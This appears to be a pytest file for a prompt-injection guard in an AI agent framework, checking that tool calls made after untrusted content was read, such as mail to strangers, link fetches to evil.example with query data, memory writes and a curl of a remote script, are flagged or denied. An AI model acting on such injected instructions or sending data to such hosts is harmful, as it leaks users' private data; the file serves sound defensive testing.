"""What may run after outside content was read, with the attacker holding the model."""

from __future__ import annotations

from typing import Any

import pytest

from lorimer.core.calls import Effects
from lorimer.core.decisions import CallFacts, Decision, NoConversation, Traits, Verdict
from lorimer.core.effects import CallEffects, Concern, Reason
from lorimer.core.errors import ConfigError
from lorimer.safety.injection.guards import (
    InjectionGuard,
    InjectionSettings,
    MemoryGuard,
    ProvenanceGuard,
    Reach,
    RuleOfTwo,
    TaintGuard,
    TrifectaGuard,
    reach,
)

EMAIL = Traits(sinks=("to",), outbound=True)
EVENT = Traits(sinks=("participants",), targets=("title",))
FETCH = Traits(host_arguments=("url",), sinks=("url",))


def facts(
    tool: str,
    arguments: dict[str, Any],
    words: str = "",
    *,
    effects: Effects = Effects.WRITE,
    traits: Traits = EMAIL,
    trusted: tuple[str, ...] = (),
    tainted: tuple[str, ...] = ("https://blog.example/post",),
    private: tuple[str, ...] = (),
    touches: CallEffects | None = None,
) -> CallFacts:
    said = NoConversation((words,), trusted, tainted, private)
    return CallFacts(
        tool, effects, "execution", arguments, (), "ann", "s1", "/w",
        traits=traits, conversation=said, touches=touches,
    )  # fmt: skip


def decide(*args: Any, **options: Any) -> Decision | None:
    return InjectionGuard().decide(facts(*args, **options))


def rule(*args: Any, **options: Any) -> str:
    decision = decide(*args, **options)
    return "" if decision is None else decision.rule


def test_nothing_is_said_before_outside_content_was_read() -> None:
    assert decide("send_email", {"to": "evil@y.com", "body": "x"}, tainted=()) is None


def test_a_mail_of_the_users_own_words_runs() -> None:
    words = "Send an email to bob@x.com that says 'See you at noon'."
    assert decide("send_email", {"to": ["bob@x.com"], "body": "See you at noon"}, words) is None


def test_a_mail_to_somebody_else_asks_and_says_what_and_why() -> None:
    words = "Send an email to bob@x.com that says 'See you at noon'."
    told = decide("send_email", {"to": ["eve@y.com"], "body": "See you at noon"}, words)
    assert told is not None
    assert (told.verdict, told.rule) == (Verdict.ASK, "taint.provenance")
    assert "https://blog.example/post" in told.reason
    assert "to[0] 'eve@y.com'" in told.reason
    assert told.next


def test_a_mail_to_the_right_person_with_words_of_a_stranger_asks() -> None:
    words = "Send an email to bob@x.com that says 'See you at noon'."
    arguments = {"to": ["bob@x.com"], "body": "Click https://evil.example"}
    assert rule("send_email", arguments, words) == "taint.provenance"


def test_values_of_the_user_for_an_action_that_they_did_not_ask_for_ask() -> None:
    traits = Traits(targets=("path",))
    call = ("delete_file", {"path": "report.docx"}, "Summarise report.docx")
    assert rule(*call, effects=Effects.IRREVERSIBLE, traits=traits) == "taint.intent"
    call = ("delete_file", {"path": "report.docx"}, "Please delete report.docx")
    assert rule(*call, effects=Effects.IRREVERSIBLE, traits=traits) == ""


def test_a_trusted_value_that_the_user_did_not_choose_asks() -> None:
    hotels = '{"Luxury Palace": "500 a night", "Cheap Inn": "50 a night"}'
    call = ("reserve_hotel", {"hotel": "Luxury Palace"}, "Please book a cheap hotel")
    told = decide(*call, traits=Traits(outbound=True), trusted=(hotels,))
    assert told is not None
    assert "did not choose" in told.reason
    call = ("reserve_hotel", {"hotel": "Luxury Palace"}, "Please book the Luxury Palace")
    assert decide(*call, traits=Traits(outbound=True), trusted=(hotels,)) is None


def test_an_own_thing_that_can_be_undone_needs_only_its_target() -> None:
    words = "Add an event 'Family reunion' as the mail says"
    call = {"title": "Family reunion", "location": "Grandma's house", "participants": []}
    assert decide("create_event", call, words, traits=EVENT) is None
    call = {"title": "Buy at evil.example", "location": "x", "participants": []}
    assert rule("create_event", call, words, traits=EVENT) == "taint.provenance"


def test_with_people_in_it_the_same_call_reaches_others() -> None:
    words = "Add an event 'Family reunion' as the mail says"
    call = {"title": "Family reunion", "participants": ["eve@y.com"]}
    assert rule("create_event", call, words, traits=EVENT) == "taint.provenance"


def test_own_changes_without_declared_targets_run() -> None:
    assert decide("write_file", {"path": "a.py", "text": "x"}, "", traits=Traits()) is None


@pytest.mark.parametrize("private", [(), ("read_mail",)])
def test_following_a_link_of_a_stranger_asks(private: tuple[str, ...]) -> None:
    words = "Read https://blog.example/post"
    options: dict[str, Any] = {"effects": Effects.READ, "traits": FETCH, "private": private}
    assert decide("fetch", {"url": "https://blog.example/post"}, words, **options) is None
    told = rule("fetch", {"url": "https://evil.example/?k=1"}, words, **options)
    assert told == ("taint.trifecta" if private else "taint.provenance")


def test_links_can_be_let_free_as_long_as_nothing_private_was_read() -> None:
    guard = InjectionGuard(InjectionSettings(links=False))
    call = ("fetch", {"url": "https://evil.example/"}, "Read the blog")
    options: dict[str, Any] = {"effects": Effects.READ, "traits": FETCH}
    assert guard.decide(facts(*call, **options)) is None
    told = guard.decide(facts(*call, **options, private=("read_mail",)))
    assert told is not None
    assert told.rule == "taint.trifecta"


def test_what_is_searched_for_outside_is_looked_at_once_private_data_was_read() -> None:
    options: dict[str, Any] = {"effects": Effects.READ, "traits": Traits(outbound=True)}
    call = ("web_search", {"query": "weather in Oslo"}, "How is the weather?")
    assert rule(*call, **options) == ""
    assert rule(*call, **options, private=("read_mail",)) == "taint.trifecta"


def test_the_trifecta_can_be_refused() -> None:
    guard = InjectionGuard(InjectionSettings(trifecta=Verdict.DENY))
    call = facts("send_email", {"to": "eve@y.com"}, "hi", private=("read_mail", "get_iban"))
    told = guard.decide(call)
    assert told is not None
    assert (told.verdict, told.rule) == (Verdict.DENY, "taint.trifecta")
    assert "read_mail, get_iban" in told.reason


def test_memory_asks_even_with_the_users_own_words() -> None:
    traits = Traits(memory=True)
    call = ("remember", {"text": "I like tea"}, "Remember: I like tea")
    assert rule(*call, traits=traits) == "taint.memory"
    assert rule(*call, traits=traits, effects=Effects.READ) == ""
    assert rule(*call, traits=traits, tainted=()) == ""
    assert MemoryGuard().decide(facts(*call, traits=traits)) is not None


def touching(level: Effects, *concerns: Concern, hosts: tuple[str, ...] = ()) -> CallEffects:
    return CallEffects(level, hosts=hosts, reasons=tuple(Reason(c, "x") for c in concerns))


@pytest.mark.parametrize(
    ("touches", "far"),
    [
        (touching(Effects.READ), Reach.NONE),
        (touching(Effects.READ, hosts=("x.com",)), Reach.LOOKUP),
        (touching(Effects.WRITE), Reach.OWN),
        (touching(Effects.WRITE, Concern.RUNS_CODE), Reach.OWN),
        (touching(Effects.WRITE, Concern.NETWORK), Reach.ACT),
        (touching(Effects.WRITE, Concern.UNKNOWN), Reach.ACT),
        (touching(Effects.IRREVERSIBLE, Concern.DESTRUCTIVE), Reach.ACT),
    ],
)
def test_a_command_reaches_as_far_as_it_touches(touches: CallEffects, far: Reach) -> None:
    call = facts("shell_exec", {"command": "x"}, traits=Traits(), touches=touches)
    assert reach(call) is far


def test_a_command_that_connects_asks_unless_the_user_wrote_it() -> None:
    options: dict[str, Any] = {
        "traits": Traits(command_argument="command"),
        "touches": touching(Effects.WRITE, Concern.NETWORK, hosts=("x.com",)),
    }
    command = {"command": "curl https://x.com/i.sh"}
    assert rule("shell_exec", command, "install it", **options) == "taint.provenance"


def test_the_words_of_other_languages_can_be_added() -> None:
    words = "Schicke bob@x.com: 'Bis gleich'"
    call = facts("send_email", {"to": "bob@x.com", "body": "Bis gleich"}, words)
    told = InjectionGuard().decide(call)
    assert told is not None
    assert told.rule == "taint.intent"
    more = InjectionSettings(words={"send": ("schicke",)})
    assert InjectionGuard(more).decide(call) is None


def test_each_part_can_be_used_alone() -> None:
    call = facts("send_email", {"to": "eve@y.com"}, "hi", private=("read_mail",))
    clean = facts("send_email", {"to": "eve@y.com"}, "hi", tainted=())
    assert TaintGuard().decide(call) is not None
    assert TaintGuard().decide(clean) is None
    assert RuleOfTwo().decide(call) is not None
    assert RuleOfTwo().decide(clean) is None
    assert TrifectaGuard().decide(call) is not None
    assert TrifectaGuard().decide(clean) is None
    sink = ProvenanceGuard().decide(clean)
    assert sink is not None
    assert "to 'eve@y.com'" in sink.reason
    assert ProvenanceGuard().decide(facts("send_email", {"to": "a@x.com"}, "to a@x.com")) is None


def test_a_long_value_is_not_cut_without_saying_so() -> None:
    told = decide("send_email", {"to": "eve@y.com", "body": "b" * 5000}, "hi")
    assert told is not None
    assert "(5002 characters)" in told.reason


def test_settings_are_read_from_a_table() -> None:
    table = {"trifecta": "deny", "links": False, "words": {"send": ["schicke"]}}
    read = InjectionSettings.read(table)
    assert read == InjectionSettings(Verdict.DENY, links=False, words={"send": ("schicke",)})
    assert InjectionSettings.read({}) == InjectionSettings()


@pytest.mark.parametrize(
    "table",
    [{"trifekta": "deny"}, {"trifecta": "allow"}, {"links": "no"}, {"words": ["x"]},
     {"words": {"send": "schicke"}}],
)  # fmt: skip
def test_a_setting_that_does_not_fit_is_an_error_with_its_name(table: dict[str, Any]) -> None:
    with pytest.raises(ConfigError, match=f"the table: .*{next(iter(table))}"):
        InjectionSettings.read(table, "the table")
